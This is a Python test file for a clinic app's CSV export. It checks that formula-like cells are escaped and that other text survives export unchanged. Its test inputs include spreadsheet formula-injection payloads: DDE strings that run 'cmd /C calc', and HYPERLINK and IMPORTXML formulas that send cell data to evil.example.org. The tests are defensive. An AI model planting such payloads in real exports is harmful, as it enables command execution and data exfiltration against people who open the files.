"""Files of tables: what spreadsheets would run stays text, and what is read back is what was written."""

import csv
from datetime import date
from io import StringIO

import pytest

from clinic.kernel.cells import unguarded
from clinic.web.frame.csv_file import csv_file, csv_text

INJECTIONS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example.org?x="&A1,"Click")',
    '=IMPORTXML(CONCAT("http://evil.example.org?v=", CONCATENATE(A2:E2)), "//a/a10")',
    '=DDE("cmd";"/C calc";"x")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\uff1d1+1",
    "\uff0b1",
    "\uff0d1",
    "\uff20SUM(1)",
    "'=1+1",
    "''=1+1",
    "-",
    "+1 305 555 0123",
]
PLAIN = [
    "",
    "Dr. Peña",
    'She said "no"',
    "a,b",
    "two\r\nlines",
    "two\nlines",
    "O'Neill",
    "'quoted'",
    "1,234",
    " lead",
    ";",
]


def parsed(content: str) -> list[list[str]]:
    return list(csv.reader(StringIO(content, newline="")))


@pytest.mark.parametrize("text", [*INJECTIONS, *PLAIN])
def test_what_is_read_back_is_what_was_written(text):
    head, cells = parsed(csv_text(["a", "b"], [(text, "x")]))
    assert (head, [unguarded(cell) for cell in cells]) == (["a", "b"], [text, "x"])


@pytest.mark.parametrize("text", INJECTIONS)
def test_no_cell_begins_as_a_formula_does(text):
    ((_,), (cell,)) = parsed(csv_text(["a"], [(text,)]))
    assert cell.startswith("'")


@pytest.mark.parametrize("text", PLAIN)
def test_ordinary_words_are_left_alone(text):
    assert parsed(csv_text(["a", "b"], [(text, "x")]))[1][0] == text


def test_numbers_and_days_are_written_as_such_and_nothing_as_nothing():
    assert csv_text(["a"], [(-1, 2.5, date(2026, 11, 23), None)]) == "a\r\n-1,2.5,2026-11-23,\r\n"


def test_lines_end_as_the_standard_says_and_quotes_are_doubled():
    assert csv_text(["a", "b"], [('"', "x\ny")]) == 'a,b\r\n"""","x\ny"\r\n'


def test_a_byte_order_mark_comes_first_where_it_is_wanted():
    assert csv_text(["a"], [], has_mark=True).encode().startswith(b"\xef\xbb\xbfa")
    assert csv_text(["a"], []) == "a\r\n"


def test_a_browser_saves_the_file_under_its_name(app):
    with app.test_request_context():
        answer = csv_file("visits-2026-11-23.csv", "a\r\n")
    assert answer.headers["Content-Type"] == "text/csv; charset=utf-8"
    assert answer.headers["Content-Disposition"] == 'attachment; filename="visits-2026-11-23.csv"'
